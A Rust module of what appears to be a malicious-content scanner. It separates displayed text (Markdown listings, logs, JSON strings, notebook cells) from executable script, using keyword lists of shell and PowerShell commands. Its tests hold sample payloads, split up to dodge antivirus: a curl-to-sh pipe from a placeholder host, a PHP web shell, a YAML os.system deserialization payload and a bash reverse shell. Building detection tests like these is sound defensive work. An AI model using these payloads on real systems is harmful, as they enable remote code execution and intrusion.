//! Which part of a text is only shown to its reader, and not carried out by anything?
//!
//! A document may list what would be evil if it ran, and a log may quote how a program was installed.
//! Whoever opens them sees it. A script stays one, whatever its ending says.

use crate::check::{markdown, notebook};
use crate::{Budget, Kind, Unscannable};
use serde::de::IgnoredAny;
use std::borrow::Cow;

/// In which texts the hits of a rule may be shown alone.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Among {
    /// In the listings of a document.
    Code,
    /// In the strings of JSON, as well: all that such a rule looks for stands in strings there.
    Json,
    /// In any text to read, as well.
    Text,
}

impl Among {
    pub(crate) fn of(word: &str) -> Option<Self> {
        match word {
            "code" => Some(Self::Code),
            "json" => Some(Self::Json),
            "text" => Some(Self::Text),
            _ => None,
        }
    }
}

/// A text of which some may be shown alone.
#[derive(Clone, Copy)]
pub(crate) struct Shown<'a> {
    pub(crate) kind: Kind,
    pub(crate) ending: &'a str,
    pub(crate) text: &'a str,
}

impl<'a> Shown<'a> {
    #[cfg(test)]
    pub(crate) const NOTHING: Self = Self {
        kind: Kind::Unknown,
        ending: "",
        text: "",
    };

    /// What is left without what is shown alone, where anything is.
    pub(crate) fn without(
        &self,
        among: Among,
        budget: &mut Budget,
    ) -> Result<Option<Cow<'a, str>>, Unscannable> {
        let rest = match (self.kind, among) {
            (Kind::Markdown, Among::Code | Among::Json) => {
                budget.charge(crate::bytes::count(self.text.len()) + 1)?;
                Some(Cow::Owned(without_indented(&markdown::prose(self.text))))
            }
            (Kind::Json, Among::Json) => {
                budget.charge(crate::bytes::count(self.text.len()) + 1)?;
                let read = serde_json::from_str::<IgnoredAny>(self.text);
                read.is_ok().then_some(Cow::Borrowed(""))
            }
            (Kind::Notebook, _) => {
                budget.charge(crate::bytes::count(self.text.len()) + 1)?;
                notebook::sources(self.text).map(Cow::Owned)
            }
            (kind, Among::Text) if is_to_read(kind, self.ending) && !is_script(self.text) => {
                Some(Cow::Borrowed(""))
            }
            _ => None,
        };
        Ok(rest)
    }
}

/// Lines that are indented are a listing, or are within one of the blocks that tools of documentation
/// have besides, where no word of a rule is more than shown.
fn without_indented(prose: &str) -> String {
    let is_indented = |line: &&str| line.starts_with("    ") || line.starts_with('\t');
    prose
        .split_inclusive('\n')
        .filter(|line| !is_indented(line))
        .collect()
}

/// Whether nothing carries out a text of this type.
fn is_to_read(kind: Kind, ending: &str) -> bool {
    const ENDINGS: [&str; 8] = ["txt", "text", "log", "out", "err", "rst", "adoc", "tex"];
    match kind {
        Kind::Markdown | Kind::Csv | Kind::JsonLines => true,
        Kind::Text => ENDINGS.contains(&ending),
        _ => false,
    }
}

/// Whether a text begins as a script does, behind its comments: with a command or an assignment.
/// A log begins with a time or a prompt, a manual with a sentence.
fn is_script(text: &str) -> bool {
    const COMMANDS: &[&str] = &[
        ".", "apk", "apt", "apt-get", "bash", "brew", "cd", "chmod", "cp", "curl", "dnf", "do",
        "echo", "env", "eval", "exec", "export", "for", "function", "if", "mkdir", "mv", "nohup",
        "perl", "pip", "printf", "python", "python3", "rm", "set", "sh", "source", "sudo", "test",
        "trap", "umask", "wget", "while", "yum", "zsh",
    ];
    const HOST: &[&str] = &[
        "@echo",
        "cmd",
        "cmd.exe",
        "iex",
        "irm",
        "iwr",
        "param",
        "powershell",
        "powershell.exe",
        "pwsh",
        "start-process",
    ];
    let is_comment = |line: &str| line.starts_with('#') || line.starts_with("::");
    let mut lines = text.lines().map(str::trim_start);
    let Some(first) = lines.find(|line| !line.is_empty() && !is_comment(line)) else {
        return false;
    };
    let word = first
        .split([' ', '\t', '(', ';', '|'])
        .next()
        .unwrap_or(first);
    let lower = word.to_ascii_lowercase();
    let assigns = |(name, _): (&str, &str)| {
        let name = name.trim_end().trim_start_matches('$');
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    };
    COMMANDS.contains(&word)
        || HOST.contains(&lower.as_str())
        || lower.starts_with("invoke-")
        || first.split_once('=').is_some_and(assigns)
}

#[cfg(test)]
mod tests {
    use crate::{Budget, Limits, Policy, Rules, Subject, Verdict, scan};

    #[track_caller]
    fn judge(name: &str, text: &str, expected: Verdict) {
        let policy = Policy::standard(Rules::own());
        let bytes = text.as_bytes();
        let budget = &mut Budget::new(Limits::default());
        let report = scan(Subject { name, bytes }, &policy, budget);
        assert_eq!(report.verdict(), expected, "{name}: {text}: {report:?}");
    }

    /// Taken apart, so that no virus scanner takes this file.
    const PIPE: &str = concat!("cu", "rl -sSf https://sh.example.invalid | s", "h");
    const PHP: &str = concat!("<?p", "hp sys", "tem($_G", "ET['c']); ?>");
    const CALL: &str = "a: !!python/object/apply:os.system [id]";
    const SHELL: &str = concat!("ba", "sh -i >& /dev/t", "cp/192.0.2.1/4242 0>&1");

    fn notebook(cell: &str, source: &str) -> String {
        let cell =
            serde_json::json!({"cell_type": cell, "metadata": {}, "source": source, "outputs": []});
        serde_json::json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
            .to_string()
    }

    #[test]
    fn what_is_only_shown_holds_nothing() {
        for code in [PIPE, PHP, CALL, SHELL] {
            for text in [
                format!("```\n{code}\n```\n"),
                format!("# a\n\n- b\n  ~~~sh\n  {code}\n  ~~~\n"),
                format!("Type `{code}` there.\n"),
                format!("> ```sh\n> $ {code}\n> ```\n"),
                format!("!!! note\n\n    ```sh\n    {code}\n    ```\n"),
            ] {
                judge("a.md", &text, Verdict::Clean);
                judge("a.ipynb", &notebook("markdown", &text), Verdict::Clean);
            }
        }
        judge("a.md", &format!("Do {PIPE} first.\n"), Verdict::Clean);
        judge(
            "a.json",
            &format!("{{\"default\": \"{CALL}\"}}"),
            Verdict::Clean,
        );
        for (name, before) in [
            ("a.log", "2024-01-01 10:00:00 INFO run: "),
            ("a.log", "+ "),
            ("a.log", "#5 [2/3] RUN "),
            ("a.txt", "Install it:\n\n    "),
            ("a.rst", "Setup\n=====\n\n::\n\n    $ "),
            ("a.csv", "n,command\n1,"),
        ] {
            judge(name, &format!("{before}{PIPE}\n"), Verdict::Clean);
        }
    }

    #[test]
    fn what_is_carried_out_is_held() {
        for name in ["a.sh", "a.txt", "a.log", "a.csv", "a.md", "a", "a.yaml"] {
            judge(name, &format!("{PIPE}\n"), Verdict::Suspicious);
        }
        for text in [
            format!("#!/bin/sh\n{PIPE}\n"),
            format!("# install\nset -e\n{PIPE}\n"),
            format!("URL=https://example.invalid\n{PIPE}\n"),
            "$p = 1\niex (irm https://example.invalid)\n".to_owned(),
        ] {
            judge("a.txt", &text, Verdict::Suspicious);
        }
        judge(
            "a.ipynb",
            &notebook("code", &format!("!{PIPE}")),
            Verdict::Suspicious,
        );
        judge("a.ipynb", &notebook("code", SHELL), Verdict::Suspicious);
        let lines = format!("!{}", PIPE.replace(" | ", " \\\n  | "));
        judge("a.ipynb", &notebook("code", &lines), Verdict::Suspicious);
        judge("a.yaml", &format!("{CALL}\n"), Verdict::Malicious);
        judge(
            "a",
            &format!("{{\"a\": {}}}\n", &CALL[3..]),
            Verdict::Malicious,
        );
        judge("a.md", &format!("{PHP}\n"), Verdict::Malicious);
        judge(
            "a.md",
            &format!("```\na\n```\n{SHELL}\n"),
            Verdict::Suspicious,
        );
        judge("a.txt", &format!("see:\n{SHELL}\n"), Verdict::Suspicious);
    }
}
